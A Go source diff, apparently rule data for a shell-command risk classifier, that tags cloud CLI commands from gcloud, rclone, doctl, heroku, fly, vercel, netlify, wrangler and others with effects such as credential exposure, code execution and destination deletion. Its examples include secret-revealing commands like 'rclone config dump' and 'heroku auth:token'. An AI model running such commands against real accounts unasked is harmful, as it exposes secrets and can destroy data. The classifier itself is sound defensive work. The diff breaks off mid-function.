+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"storage", "ls|cat|du|hash|objects|buckets"}, Flags: []string{"-l", "--long", "-L", "--full", "-r", "-R", "--recursive", "-a", "--all-versions", "-b", "--buckets", "-e", "--etag", "-s", "--summarize", "--readable-sizes", "--hex", "--skip-crc32c", "--skip-md5", "--json"}, Values: []string{"--project", "--format", "--range", "--account", "--configuration", "--verbosity"}, Always: []string{"remote-read"}, Examples: []string{"gcloud storage ls gs://bucket/", "gcloud storage cat gs://bucket/config.json"}}}}
+}
+
+func effectsCloudL656() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"storage", "cp|rsync|mv"}, Flags: []string{"-n", "--no-clobber", "-c", "--continue-on-error", "--preserve-posix", "-P", "--skip-unsupported", "--checksums-only", "--no-ignore-symlinks", "--dry-run"}, Values: []string{"--project", "-x", "--exclude", "--content-type", "--cache-control", "--storage-class", "--predefined-acl", "--account", "--configuration", "--verbosity"}, Effects: map[string]string{"--delete-unmatched-destination-objects": "dest-delete", "--recursive": "recursive", "-R": "recursive", "-r": "recursive"}, Operands: "upload", Last: "write", Always: []string{"network"}, Examples: []string{"gcloud storage cp -r dist/ gs://bucket/site/", "gcloud storage rsync gs://bucket/data ./data --recursive"}}}}
+}
+
+func effectsCloudL673() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"compute|cloud-shell|alpha|beta", "ssh|scp|connect-to-serial-port"}, Always: []string{"network", "runs-code"}, Examples: []string{"gcloud compute ssh vm1 --zone us-central1-a -- uptime"}}}}
+}
+
+func effectsCloudL679() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gcloud"}, Sub: []string{"auth", "login|activate-service-account|revoke|configure-docker"}, Flags: []string{"--no-launch-browser", "--no-browser", "--update-adc", "--brief", "--all", "--quiet", "-q"}, Values: []string{"--account", "--project", "--verbosity", "--enable-gdrive-access"}, Effects: map[string]string{"--cred-file": "read", "--key-file": "read"}, Always: []string{"network", "writes-files"}, Examples: []string{"gcloud auth login", "gcloud auth activate-service-account --key-file=sa.json"}}}}
+}
+
+func effectsCloudL692() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gsutil"}, Flags: []string{"-D", "-DD", "-m", "-q", "-d"}, Values: []string{"-h", "-i", "-u"}, Effects: map[string]string{"-o": "exec"}, Operands: "subcommand", Env: map[string]string{"BOTO_CONFIG": "exec", "BOTO_PATH": "exec"}, Always: []string{"network"}, Examples: []string{"gsutil", "gsutil acl ch -u x:R gs://b"}, Counter: []string{"gsutil ls gs://bucket"}}}}
+}
+
+func effectsCloudL706() Pack {
+	return Pack{Programs: []Program{{Exe: []string{"gsutil"}, Sub: []string{"ls|cat|du|stat|hash|version"}, Flags: []string{"-l", "-L", "-b", "-a", "-e", "-R", "-r", "-d", "-0", "-c", "-s", "-m"}, Values: []string{"-p", "-X", "-h"}, Always: []string{"network"}, Examples: []string{"gsutil ls gs://bucket", "gsutil cat gs://bucket/a.txt", "gsutil du -s gs://bucket", "gsutil hash local.bin"}}}}
+}
+
+func effectsCloudL714() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gsutil"}, Sub: []string{"cp|rsync"}, Flags: []string{"-A", "-c", "-D", "-e", "-I", "-J", "-M", "-p", "-P", "-U", "-v", "-C", "-i", "-u"}, Values: []string{"-a", "-j", "-s", "-z", "-x", "-y"}, Effects: map[string]string{"-L": "write", "-R": "recursive", "-d": "dest-delete", "-n": "dry-run", "-r": "recursive"}, Operands: "upload", Last: "write", Always: []string{"network"}, Examples: []string{"gsutil cp report.pdf gs://bucket/", "gsutil -m rsync -r -d site/ gs://bucket/site"}}}}
 }
 
-func effectsCloudL655() Pack {
+func effectsCloudL730() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"gsutil"}, Sub: []string{"mv"}, Flags: []string{"-p", "-v"}, Effects: map[string]string{"-R": "recursive", "-r": "recursive"}, Operands: "delete", Last: "write", Always: []string{"network"}, Examples: []string{"gsutil mv old.txt gs://bucket/new.txt"}}}}
 }
 
-func effectsCloudL669() Pack {
+func effectsCloudL744() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"azcopy"}, Values: []string{"--log-level", "--cap-mbps", "--output-type", "--output-level", "--trusted-microsoft-suffixes"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"azcopy", "azcopy frobnicate"}, Counter: []string{"azcopy list https://acct.blob.core.windows.net/c"}}}}
 }
 
-func effectsCloudL677() Pack {
+func effectsCloudL752() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"azcopy"}, Sub: []string{"copy|cp|sync"}, Flags: []string{"--as-subdir", "--check-length", "--put-md5", "--preserve-last-modified-time", "--preserve-permissions", "--preserve-smb-info", "--compare-hash", "--mirror-mode", "--s2s-preserve-properties", "--follow-symlinks", "--cpk-by-name", "--log-level"}, Values: []string{"--overwrite", "--include-pattern", "--exclude-pattern", "--include-path", "--exclude-path", "--from-to", "--block-size-mb", "--blob-type", "--cap-mbps", "--include-after", "--include-before", "--output-type", "--check-md5", "--metadata", "--content-type", "--block-blob-tier", "--trusted-microsoft-suffixes"}, Effects: map[string]string{"--delete-destination": "dest-delete", "--dry-run": "dry-run", "--list-of-files": "read", "--recursive": "recursive"}, Operands: "upload", Last: "write", Always: []string{"network"}, Examples: []string{"azcopy copy ./dist 'https://acct.blob.core.windows.net/web?sv=x' --recursive", "azcopy sync ./site 'https://acct.blob.core.windows.net/$web' --delete-destination=true"}}}}
 }
 
-func effectsCloudL697() Pack {
+func effectsCloudL772() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"azcopy"}, Sub: []string{"list|remove|rm|make|bench|benchmark|login|logout"}, Flags: []string{"--machine-readable", "--mega-units", "--running-tally", "--recursive", "--identity"}, Values: []string{"--output-type", "--properties", "--tenant-id", "--include-pattern", "--exclude-pattern"}, Always: []string{"network"}, Examples: []string{"azcopy list https://acct.blob.core.windows.net/c", "azcopy login --identity"}}}}
 }
 
-func effectsCloudL705() Pack {
+func effectsCloudL780() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"azcopy"}, Sub: []string{"jobs", "list|show"}, Values: []string{"--with-status", "--output-type"}, Examples: []string{"azcopy jobs list", "azcopy jobs show 1234-abcd"}}}}
 }
 
-func effectsCloudL711() Pack {
+func effectsCloudL786() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"azcopy"}, Sub: []string{"env"}, Effects: map[string]string{"--show-sensitive": "credentials"}, Examples: []string{"azcopy env"}}}}
 }
 
-func effectsCloudL720() Pack {
+func effectsCloudL795() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"s3cmd"}, Flags: []string{"-v", "--verbose", "-d", "--debug", "-q", "--quiet", "-H", "--human-readable-sizes", "--ssl", "--no-ssl", "--no-check-certificate"}, Values: []string{"--access_key", "--secret_key", "--access_token", "--host", "--host-bucket", "--region", "--bucket-location"}, Effects: map[string]string{"--config": "exec", "--configure": "writes-files", "--dry-run": "dry-run", "--dump-config": "credentials", "--encrypt": "runs-code", "-c": "exec", "-e": "runs-code", "-n": "dry-run"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"s3cmd", "s3cmd setacl --acl-public s3://b/x", "s3cmd --dump-config"}, Counter: []string{"s3cmd ls s3://bucket"}}}}
 }
 
-func effectsCloudL739() Pack {
+func effectsCloudL814() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"s3cmd"}, Sub: []string{"ls|la|du|info"}, Flags: []string{"-r", "--recursive", "-H", "--human-readable-sizes", "--list-md5", "-l", "--long-listing", "-v", "-q", "--quiet"}, Values: []string{"--access_key", "--secret_key", "--host", "--host-bucket", "--region"}, Effects: map[string]string{"--config": "exec", "-c": "exec"}, Always: []string{"network"}, Examples: []string{"s3cmd ls s3://bucket", "s3cmd du -H s3://bucket"}}}}
 }
 
-func effectsCloudL750() Pack {
+func effectsCloudL825() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"s3cmd"}, Sub: []string{"get|put|sync"}, Flags: []string{"-f", "--force", "--skip-existing", "--continue", "-P", "--acl-public", "--acl-private", "--no-preserve", "-p", "--preserve", "-v", "-q", "--quiet", "--progress", "--no-progress", "--check-md5", "--no-check-md5"}, Values: []string{"--exclude", "--include", "--rexclude", "--rinclude", "--mime-type", "--storage-class", "--access_key", "--secret_key", "--host", "--host-bucket", "--region"}, Effects: map[string]string{"--config": "exec", "--delete-removed": "dest-delete", "--dry-run": "dry-run", "--encrypt": "runs-code", "--exclude-from": "read", "--include-from": "read", "--recursive": "recursive", "-c": "exec", "-e": "runs-code", "-n": "dry-run", "-r": "recursive"}, Operands: "upload", Last: "write", Always: []string{"network"}, Examples: []string{"s3cmd get s3://bucket/db.sql.gz .", "s3cmd put -r dist/ s3://bucket/", "s3cmd sync --delete-removed site/ s3://b/"}}}}
 }
 
-func effectsCloudL774() Pack {
+func effectsCloudL849() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rclone"}, Flags: []string{"-v", "-vv", "-q", "--quiet", "-P", "--progress", "--stats-one-line", "--checksum", "--size-only", "--ignore-existing", "-u", "--update", "--fast-list", "--no-check-certificate", "-i", "--interactive", "--human-readable", "--ask-password"}, Values: []string{"--transfers", "--checkers", "--exclude", "--include", "--filter", "--bwlimit", "--timeout", "--contimeout", "--retries", "--low-level-retries", "--max-age", "--min-age", "--max-size", "--min-size", "--max-depth", "--stats", "--log-level", "--user-agent"}, Effects: map[string]string{"--config": "exec", "--dry-run": "dry-run", "--exclude-from": "read", "--files-from": "read", "--filter-from": "read", "--include-from": "read", "--log-file": "write", "--password-command": "shell", "-n": "dry-run"}, Operands: "subcommand", Env: map[string]string{"RCLONE_CONFIG": "exec", "RCLONE_PASSWORD_COMMAND": "shell"}, Always: []string{"network"}, Examples: []string{"rclone", "rclone dedupe remote:dir"}, Counter: []string{"rclone ls remote:bucket"}}}}
 }
 
-func effectsCloudL800() Pack {
+func effectsCloudL875() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rclone"}, Sub: []string{"ls|lsd|lsl|lsf|lsjson|size|about|tree|check|cryptcheck|md5sum|sha1sum|hashsum|cat"}, Flags: []string{"-v", "-q", "-R", "--recursive", "--fast-list", "--dirs-only", "--files-only", "--hash", "--json", "--one-way", "--download", "--human-readable", "-a", "--all", "-C", "--noreport", "--full-path"}, Values: []string{"--max-depth", "--exclude", "--include", "--filter", "--format", "--separator", "--head", "--tail", "--offset", "--count"}, Effects: map[string]string{"--config": "exec", "--log-file": "write", "--password-command": "shell"}, Always: []string{"network"}, Examples: []string{"rclone ls remote:bucket", "rclone lsf --max-depth 1 remote:", "rclone cat remote:config.json"}}}}
 }
 
-func effectsCloudL814() Pack {
+func effectsCloudL889() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rclone"}, Sub: []string{"listremotes|version"}, Flags: []string{"--long", "--json"}, Effects: map[string]string{"--check": "network", "--config": "read"}, Examples: []string{"rclone listremotes", "rclone version"}}}}
 }
 
-func effectsCloudL824() Pack {
+func effectsCloudL899() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rclone"}, Sub: []string{"config", "show|dump"}, Effects: map[string]string{"--config": "read"}, Always: []string{"credentials"}, Examples: []string{"rclone config show", "rclone config dump"}}}}
 }
 
-func effectsCloudL832() Pack {
+func effectsCloudL907() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rclone"}, Sub: []string{"config", "file|providers|paths|redacted"}, Effects: map[string]string{"--config": "read"}, Examples: []string{"rclone config file", "rclone config redacted"}}}}
 }
 
-func effectsCloudL839() Pack {
+func effectsCloudL914() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rclone"}, Sub: []string{"authorize"}, Always: []string{"network", "credentials"}, Examples: []string{"rclone authorize drive"}}}}
 }
 
-func effectsCloudL845() Pack {
+func effectsCloudL920() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rclone"}, Sub: []string{"copy|copyto|sync|bisync|copyurl"}, Flags: []string{"-v", "-q", "-P", "--progress", "--checksum", "--size-only", "--ignore-existing", "-u", "--update", "--fast-list", "--no-traverse", "--create-empty-src-dirs", "--resync", "-i", "--interactive"}, Values: []string{"--transfers", "--checkers", "--exclude", "--include", "--filter", "--bwlimit", "--max-age", "--min-age", "--max-size", "--min-size", "--max-depth", "--stats", "--backup-dir", "--suffix"}, Effects: map[string]string{"--config": "exec", "--dry-run": "dry-run", "--exclude-from": "read", "--files-from": "read", "--filter-from": "read", "--include-from": "read", "--log-file": "write", "--password-command": "shell", "-n": "dry-run"}, Operands: "upload", Last: "write", Always: []string{"network"}, Examples: []string{"rclone copy ./dist remote:bucket/site", "rclone sync remote:bucket ./mirror -P"}}}}
 }
 
-func effectsCloudL867() Pack {
+func effectsCloudL942() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"rclone"}, Sub: []string{"move|moveto"}, Flags: []string{"-v", "-q", "-P", "--progress", "--delete-empty-src-dirs"}, Effects: map[string]string{"--config": "exec", "--dry-run": "dry-run", "-n": "dry-run"}, Operands: "delete", Last: "write", Always: []string{"network"}, Examples: []string{"rclone move ./outbox remote:inbox"}}}}
 }
 
-func effectsCloudL882() Pack {
+func effectsCloudL957() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Flags: []string{"--trace", "-v", "--verbose", "--interactive"}, Values: []string{"-t", "--access-token", "--context", "-o", "--output", "--http-retry-max"}, Effects: map[string]string{"--api-url": "url", "--config": "read", "-c": "read", "-u": "url"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"doctl", "doctl compute droplet create web --size s-1vcpu-1gb --image ubuntu-22-04-x64"}, Counter: []string{"doctl compute droplet list"}}}}
 }
 
-func effectsCloudL897() Pack {
+func effectsCloudL972() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"databas*|db|d", "get|g|connection|conn"}, Values: []string{"-t", "--access-token", "--context", "-o", "--output", "--format"}, Always: []string{"network", "credentials"}, Examples: []string{"doctl databases connection 1234", "doctl databases get 1234"}}}}
 }
 
-func effectsCloudL904() Pack {
+func effectsCloudL979() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"databas*|db|d", "connection|conn|user|u|pool|p", "get|g|list|ls"}, Values: []string{"-t", "--access-token", "--context", "-o", "--output", "--format"}, Always: []string{"network", "credentials"}, Examples: []string{"doctl databases user list 1234", "doctl databases user get 1234 app"}}}}
 }
 
-func effectsCloudL911() Pack {
+func effectsCloudL986() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"*", "*", "list|ls|get|g"}, Flags: []string{"--no-header"}, Values: []string{"-t", "--access-token", "--context", "-o", "--output", "--format", "--region", "--tag-name"}, Always: []string{"network"}, Examples: []string{"doctl compute droplet list", "doctl kubernetes cluster get prod"}}}}
 }
 
-func effectsCloudL919() Pack {
+func effectsCloudL994() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"*", "*", "*", "list|ls|get|g"}, Flags: []string{"--no-header"}, Values: []string{"-t", "--access-token", "--context", "-o", "--output", "--format"}, Always: []string{"network"}, Examples: []string{"doctl kubernetes cluster node-pool list prod"}}}}
 }
 
-func effectsCloudL927() Pack {
+func effectsCloudL1002() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"account|balance|invoice", "get|g|list|ls"}, Values: []string{"-t", "--access-token", "--context", "-o", "--output", "--format"}, Always: []string{"network"}, Examples: []string{"doctl account get"}}}}
 }
 
-func effectsCloudL934() Pack {
+func effectsCloudL1009() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"auth", "token"}, Values: []string{"--context"}, Effects: map[string]string{"--config": "read", "-c": "read"}, Always: []string{"credentials"}, Examples: []string{"doctl auth token"}}}}
 }
 
-func effectsCloudL944() Pack {
+func effectsCloudL1019() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"kubernetes|k8s|k", "cluster|c", "kubeconfig|kcfg|config|cfg|k8scfg", "show|s|g|get"}, Values: []string{"-t", "--access-token", "--context", "--expiry-seconds"}, Always: []string{"network", "credentials"}, Examples: []string{"doctl kubernetes cluster kubeconfig show prod"}}}}
 }
 
-func effectsCloudL951() Pack {
+func effectsCloudL1026() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"registry|reg|r", "docker-config|config"}, Flags: []string{"--read-write"}, Values: []string{"-t", "--access-token", "--context", "--expiry-seconds"}, Always: []string{"network", "credentials"}, Examples: []string{"doctl registry docker-config"}}}}
 }
 
-func effectsCloudL959() Pack {
+func effectsCloudL1034() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"version"}, Examples: []string{"doctl version"}}}}
 }
 
-func effectsCloudL964() Pack {
+func effectsCloudL1039() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"doctl"}, Sub: []string{"compute", "ssh"}, Always: []string{"network", "runs-code"}, Examples: []string{"doctl compute ssh web-1"}}}}
 }
 
-func effectsCloudL970() Pack {
+func effectsCloudL1045() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"heroku"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"heroku", "heroku apps:create demo"}, Counter: []string{"heroku apps"}}}}
 }
 
-func effectsCloudL977() Pack {
+func effectsCloudL1052() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"heroku"}, Sub: []string{"auth:token|config|config:get|pg:credentials:url|pg:credentials"}, Flags: []string{"-s", "--shell", "-j", "--json"}, Values: []string{"-a", "--app", "-r", "--remote", "--name"}, Always: []string{"network", "credentials"}, Examples: []string{"heroku auth:token", "heroku config -a web", "heroku config:get DATABASE_URL -a web"}}}}
 }
 
-func effectsCloudL985() Pack {
+func effectsCloudL1060() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"heroku"}, Sub: []string{"apps|apps:info|info|ps|logs|releases|addons|domains|status|whoami|auth:whoami|regions|pipelines|teams|access|features|labs|stack|buildpacks|drains|certs|spaces|pg:info|version|--version"}, Flags: []string{"-j", "--json", "-t", "--tail", "--all", "-x", "--extended", "-A"}, Values: []string{"-a", "--app", "-r", "--remote", "-n", "--num", "-d", "--dyno", "--source", "-p", "--process-type", "--team", "--space"}, Always: []string{"network"}, Examples: []string{"heroku apps", "heroku logs --tail -a web", "heroku ps -a web", "heroku whoami"}}}}
 }
 
-func effectsCloudL994() Pack {
+func effectsCloudL1069() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"heroku"}, Sub: []string{"run|run:detached|local|local:run|ps:exec|pg:psql|redis:cli|console"}, Always: []string{"network", "runs-code"}, Examples: []string{"heroku run bash -a web", "heroku pg:psql -a web"}}}}
 }
 
-func effectsCloudL1000() Pack {
+func effectsCloudL1075() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"heroku"}, Sub: []string{"login|logout|auth:login|auth:logout|git:remote|git:clone"}, Always: []string{"network", "writes-files"}, Examples: []string{"heroku login", "heroku git:remote -a web"}}}}
 }
 
-func effectsCloudL1006() Pack {
+func effectsCloudL1081() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"fly"}, Flags: []string{"--verbose", "-j", "--json", "--debug"}, Values: []string{"-a", "--app", "-t", "--access-token", "-o", "--org"}, Effects: map[string]string{"--config": "read", "-c": "read"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"fly", "fly apps create demo"}, Counter: []string{"fly status"}}}}
 }
 
-func effectsCloudL1018() Pack {
+func effectsCloudL1093() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"fly"}, Sub: []string{"auth|tokens", "token|create"}, Values: []string{"-a", "--app", "-t", "--access-token", "-o", "--org", "-x", "--expiry", "-n", "--name"}, Always: []string{"network", "credentials"}, Examples: []string{"fly auth token", "fly tokens create deploy -a web"}}}}
 }
 
-func effectsCloudL1025() Pack {
+func effectsCloudL1100() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"fly"}, Sub: []string{"status|logs|info|ips|regions|releases|doctor|dashboard|checks|services"}, Flags: []string{"--verbose", "-j", "--json", "--all", "--no-tail", "--image"}, Values: []string{"-a", "--app", "-t", "--access-token", "-i", "--instance", "-r", "--region", "-m", "--machine"}, Effects: map[string]string{"--config": "read", "-c": "read"}, Always: []string{"network"}, Examples: []string{"fly status -a web", "fly logs --no-tail -a web"}}}}
 }
 
-func effectsCloudL1036() Pack {
+func effectsCloudL1111() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"fly"}, Sub: []string{"secrets|apps|machine|machines|m|volumes|volume|vol|postgres|pg|certs|orgs|auth|scale|ips|tokens", "list|ls|status|show|whoami"}, Flags: []string{"-j", "--json", "--all", "-q", "--quiet"}, Values: []string{"-a", "--app", "-t", "--access-token", "-o", "--org"}, Effects: map[string]string{"--config": "read", "-c": "read"}, Always: []string{"network"}, Examples: []string{"fly secrets list -a web", "fly machine list -a web", "fly auth whoami", "fly scale show -a web"}}}}
 }
 
-func effectsCloudL1047() Pack {
+func effectsCloudL1122() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"fly"}, Sub: []string{"version"}, Flags: []string{"-j", "--json"}, Examples: []string{"fly version"}}}}
 }
 
-func effectsCloudL1053() Pack {
+func effectsCloudL1128() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"fly"}, Sub: []string{"deploy|launch|console|ssh|sftp|proxy|mpg"}, Always: []string{"network", "runs-code"}, Examples: []string{"fly deploy -a web", "fly ssh console -a web"}}}}
 }
 
-func effectsCloudL1059() Pack {
+func effectsCloudL1134() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"vercel"}, Flags: []string{"-d", "--debug", "--no-color", "-y", "--yes", "--prod"}, Values: []string{"-t", "--token", "-S", "--scope", "-T", "--team"}, Effects: map[string]string{"--cwd": "dir", "--global-config": "read", "--local-config": "read", "-A": "read", "-Q": "read"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"vercel", "vercel --prod", "vercel ./site"}, Counter: []string{"vercel ls"}}}}
 }
 
-func effectsCloudL1074() Pack {
+func effectsCloudL1149() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"vercel"}, Sub: []string{"ls|list|inspect|logs|whoami|domains|projects|project|teams"}, Flags: []string{"-d", "--debug", "--no-color", "-j", "--json", "--wait", "-f", "--follow"}, Values: []string{"-t", "--token", "-S", "--scope", "-T", "--team", "-m", "--meta", "--environment", "--timeout"}, Effects: map[string]string{"--cwd": "dir"}, Always: []string{"network"}, Examples: []string{"vercel ls", "vercel whoami", "vercel inspect my-app.vercel.app --logs"}}}}
 }
 
-func effectsCloudL1084() Pack {
+func effectsCloudL1159() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"vercel"}, Sub: []string{"env", "ls|list"}, Values: []string{"-t", "--token", "-S", "--scope", "-T", "--team"}, Effects: map[string]string{"--cwd": "dir"}, Always: []string{"network"}, Examples: []string{"vercel env ls"}}}}
 }
 
-func effectsCloudL1094() Pack {
+func effectsCloudL1169() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"vercel"}, Sub: []string{"pull"}, Flags: []string{"-y", "--yes", "--prod"}, Values: []string{"-t", "--token", "-S", "--scope", "--environment", "--git-branch"}, Effects: map[string]string{"--cwd": "dir"}, Always: []string{"network", "writes-files"}, Examples: []string{"vercel pull --yes --environment=preview"}}}}
 }
 
-func effectsCloudL1104() Pack {
+func effectsCloudL1179() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"vercel"}, Sub: []string{"env", "pull"}, Flags: []string{"-y", "--yes"}, Values: []string{"-t", "--token", "-S", "--scope", "--environment", "--git-branch"}, Effects: map[string]string{"--cwd": "dir"}, Operands: "write", Always: []string{"network", "writes-files"}, Examples: []string{"vercel env pull .env.local"}}}}
 }
 
-func effectsCloudL1115() Pack {
+func effectsCloudL1190() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"vercel"}, Sub: []string{"dev|build|deploy|link|login|logout|switch|redeploy|promote|rollback|alias|dns|certs|git|integration|env|bisect"}, Always: []string{"network", "runs-code"}, Examples: []string{"vercel dev", "vercel deploy --prebuilt", "vercel build"}}}}
 }
 
-func effectsCloudL1121() Pack {
+func effectsCloudL1196() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"netlify"}, Flags: []string{"--debug", "--json"}, Values: []string{"--auth", "--filter"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"netlify", "netlify sites:create"}, Counter: []string{"netlify status"}}}}
 }
 
-func effectsCloudL1130() Pack {
+func effectsCloudL1205() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"netlify"}, Sub: []string{"env:list|env:get"}, Flags: []string{"--json", "--plain", "--debug"}, Values: []string{"--context", "--scope", "--filter", "--auth"}, Always: []string{"network", "credentials"}, Examples: []string{"netlify env:list", "netlify env:get API_KEY"}}}}
 }
 
-func effectsCloudL1138() Pack {
+func effectsCloudL1213() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"netlify"}, Sub: []string{"status|sites:list|functions:list|logs|logs:function|logs:deploy|watch|api"}, Flags: []string{"--json", "--debug", "--verbose"}, Values: []string{"--auth", "--filter", "--data", "--name", "--site"}, Always: []string{"network"}, Examples: []string{"netlify status", "netlify sites:list --json"}}}}
 }
 
-func effectsCloudL1148() Pack {
+func effectsCloudL1223() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"netlify"}, Sub: []string{"deploy"}, Flags: []string{"--prod", "--prod-if-unlocked", "--json", "-o", "--open", "--skip-functions-cache", "--debug", "--no-build"}, Values: []string{"--auth", "-s", "--site", "-m", "--message", "-a", "--alias", "--timeout", "--context", "--filter"}, Effects: map[string]string{"--build": "runs-code", "--dir": "upload", "--functions": "upload", "-d": "upload", "-f": "upload"}, Always: []string{"network"}, Examples: []string{"netlify deploy --dir=dist --prod", "netlify deploy --build"}}}}
 }
 
-func effectsCloudL1162() Pack {
+func effectsCloudL1237() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"netlify"}, Sub: []string{"dev|build|serve|functions:serve|functions:invoke|functions:build|login|logout|link|unlink|init|switch|env:set|env:unset|env:import|env:clone|open"}, Always: []string{"network", "runs-code"}, Examples: []string{"netlify dev", "netlify build"}}}}
 }
 
-func effectsCloudL1168() Pack {
+func effectsCloudL1243() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"wrangler"}, Flags: []string{"--experimental-json-config", "-j"}, Values: []string{"-e", "--env"}, Effects: map[string]string{"--config": "read", "--cwd": "dir", "--env-file": "read", "-c": "read"}, Operands: "subcommand", Always: []string{"network"}, Examples: []string{"wrangler", "wrangler frobnicate"}, Counter: []string{"wrangler whoami"}}}}
 }
 
-func effectsCloudL1182() Pack {
+func effectsCloudL1257() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"wrangler"}, Sub: []string{"whoami|tail"}, Flags: []string{"--format"}, Values: []string{"-e", "--env", "--status", "--method", "--search", "--sampling-rate", "--ip", "--header"}, Effects: map[string]string{"--config": "read", "-c": "read"}, Always: []string{"network"}, Examples: []string{"wrangler whoami", "wrangler tail my-worker --format pretty"}}}}
 }
 
-func effectsCloudL1193() Pack {
+func effectsCloudL1268() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"wrangler"}, Sub: []string{"secret|deployments|versions|kv|kv:namespace|kv:key|r2|d1", "list"}, Values: []string{"-e", "--env", "--name", "--binding", "--namespace-id", "--prefix"}, Effects: map[string]string{"--config": "read", "-c": "read"}, Always: []string{"network"}, Examples: []string{"wrangler secret list", "wrangler deployments list"}}}}
 }
 
-func effectsCloudL1203() Pack {
+func effectsCloudL1278() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"wrangler"}, Sub: []string{"d1", "execute"}, Flags: []string{"--local", "--remote", "--json", "-y", "--yes"}, Values: []string{"-e", "--env", "--persist-to"}, Effects: map[string]string{"--command": "script:sql", "--config": "read", "--file": "exec", "-c": "read"}, Always: []string{"network"}, Examples: []string{"wrangler d1 execute db --command 'SELECT 1'", "wrangler d1 execute db --file schema.sql --remote"}}}}
 }
 
-func effectsCloudL1216() Pack {
+func effectsCloudL1291() Pack {
 	return Pack{Programs: []Program{{Exe: []string{"wrangler"}, Sub: []string{"dev|deploy|publish|build|pages|login|logout|init|generate|types|secret|kv|r2|queues|dispatch-namespace"}, Always: []string{"network", "runs-code"}, Examples: []string{"wrangler dev", "wrangler deploy --env production"}}}}
 }
 
-func effectsCloudL1229() Pack {
-	return Pack{Programs: []Program{{Exe: []string{"terraform", "tofu"}, Effects: map[string]string{"-chdir": "dir"}, Operands: "subcommand", Env: map[string]string{"TF_CLI_ARGS": "exec", "TF_CLI_ARGS_apply": "exec", "TF_CLI_ARGS_console": "exec", "TF_CLI_ARGS_destroy": "exec", "TF_CLI_ARGS_fmt": "exec", "TF_CLI_ARGS_import": "exec", "TF_CLI_ARGS_init": "exec", "TF_CLI_ARGS_output": "exec", "TF_CLI_ARGS_plan": "exec", "TF_CLI_ARGS_refresh": "exec", "TF_CLI_ARGS_show": "exec", "TF_CLI_ARGS_state": "exec", "TF_CLI_ARGS_validate": "exec", "TF_CLI_CONFIG_FILE": "exec", "TF_LOG_PATH": "write"}, Examples: []string{"terraform", "terraform frobnicate", "tofu -chdir=infra frobnicate"}, Counter: []string{"terraform plan"}}}}
+func effectsCloudL1304() Pack {
